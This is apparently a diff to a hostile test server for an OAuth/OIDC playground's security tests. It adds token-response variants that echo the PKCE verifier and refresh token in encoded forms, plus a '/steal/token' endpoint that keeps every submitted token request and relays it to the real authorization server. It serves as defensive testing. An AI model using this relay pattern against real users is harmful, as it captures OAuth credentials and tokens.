@@ -12,6 +12,13 @@
 //   phish       the token endpoint answers invalid_grant with HTML and phishing text      (S04)
 //   phish-authz the authorization endpoint redirects back with error_description HTML and a javascript: error_uri
 //   mixup       the authorization response carries another issuer's iss                  (S12)
+//   echo        the token response echoes the code_verifier, JSON-escaped (\u00XX) and base64url-encoded,
+//               and the refresh token percent-encoded: redaction must still find them
+//   big-token   a valid token response padded past 256 KiB (the playground's size cap)
+//
+// And an attacker's token endpoint that a forged share link points at (`#token_endpoint=…`):
+//   /steal/token   forwards the token request to `forwardTokenTo` (the real AS) and returns its answer,
+//                  keeping every form it received (`stolen()`): the page sees real, verified tokens
 //
 // The authorization endpoint never shows a login page: it redirects straight back to the redirect_uri
 // (only to a playground origin given at start-up: even a hostile test server is no open redirector).
@@ -33,6 +40,8 @@ export const VARIANTS = Object.freeze([
   'phish',
   'phish-authz',
   'mixup',
+  'echo',
+  'big-token',
 ])
 
 /** Script payloads. Every one of them, if it ever ran, sets window.__pwned. */
@@ -66,9 +75,12 @@ const EXPOSE = Object.keys(WEIRD_HEADERS).join(', ')
  * @param {number} options.port                 0 picks a free port
  * @param {string[]} options.playgroundOrigins  origins allowed by CORS and as redirect targets
  * @param {string} [options.host]               host name used in issuer URLs (default localhost)
- * @returns {Promise<{ url: string, port: number, issuer(variant: string): string, close(): Promise<void> }>}
+ * @param {string} [options.forwardTokenTo]     the real token endpoint /steal/token forwards to
+ * @returns {Promise<{ url: string, port: number, issuer(variant: string): string, stealUrl: string, stolen(): URLSearchParams[], close(): Promise<void> }>}
  */
-export async function startHostileServer({ port, playgroundOrigins, host = 'localhost' }) {
+export async function startHostileServer({ port, playgroundOrigins, host = 'localhost', forwardTokenTo }) {
+  /** @type {URLSearchParams[]} every token request form /steal/token received */
+  const stolen = []
   const origins = new Set(playgroundOrigins.map((o) => new URL(o).origin))
   const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true })
   const jwk = { ...(await exportJWK(publicKey)), kid: KID, alg: 'RS256', use: 'sig' }
@@ -188,6 +200,15 @@ export async function startHostileServer({ port, playgroundOrigins, host = 'loca
       }),
       'at+jwt',
     )
+    if (variant === 'echo' || variant === 'big-token') {
+      const refresh = randomBytes(24).toString('base64url') + '/+='
+      const honest = { access_token: accessToken, token_type: 'Bearer', expires_in: 600, scope: 'openid', id_token: idToken, refresh_token: refresh }
+      if (variant === 'big-token') return JSON.stringify({ ...honest, x_padding: 'A'.repeat(300 * 1024) })
+      const v = grant.verifier ?? ''
+      // The verifier with every character \u-escaped: the same JSON string, not the same text.
+      const escaped = [...v].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
+      return `${JSON.stringify(honest).slice(0, -1)},"x_debug":"you sent ${escaped}","x_b64":"${Buffer.from(`verifier=${v}`).toString('base64url')}","x_pct":"${encodeURIComponent(encodeURIComponent(refresh))}"}`
+    }
     const body = {
       access_token: accessToken,
       token_type: 'Bearer',
@@ -238,6 +259,18 @@ export async function startHostileServer({ port, playgroundOrigins, host = 'loca
       res.statusCode = 204
       res.end()
       return
+    }
+    if (url.pathname === '/steal/token') {
+      if (req.method !== 'POST') return send(res, 405, 'text/plain', 'POST only')
+      const form = await readForm(req)
+      stolen.push(form)
+      if (!forwardTokenTo) return send(res, 400, 'application/json', '{"error":"invalid_grant"}')
+      const upstream = await fetch(forwardTokenTo, {
+        method: 'POST',
+        headers: { 'content-type': 'application/x-www-form-urlencoded', origin: req.headers.origin ?? '' },
+        body: form,
+      })
+      return send(res, upstream.status, upstream.headers.get('content-type') ?? 'application/json', await upstream.text())
     }
     // /h/<variant>/<rest>, /.well-known/<kind>/h/<variant>
     let m = /^\/\.well-known\/(?:oauth-authorization-server|openid-configuration)\/h\/([a-z-]+)$/.exec(url.pathname)
@@ -314,6 +347,7 @@ export async function startHostileServer({ port, playgroundOrigins, host = 'loca
       return send(res, 400, 'application/json', JSON.stringify({ error: 'invalid_grant', error_description: 'unknown code' }))
     }
     const verifier = form.get('code_verifier') ?? ''
+    grant.verifier = verifier
     if (grant.challenge && createHash('sha256').update(verifier).digest('base64url') !== grant.challenge) {
       return send(res, 400, 'application/json', JSON.stringify({ error: 'invalid_grant', error_description: 'PKCE verification failed' }))
     }
@@ -336,6 +370,8 @@ export async function startHostileServer({ port, playgroundOrigins, host = 'loca
     url: base,
     port: actualPort,
     issuer: issuerOf,
+    stealUrl: `${base}/steal/token`,
+    stolen: () => [...stolen],
     close: () =>
       new Promise((resolve) => {
         server.closeAllConnections?.()
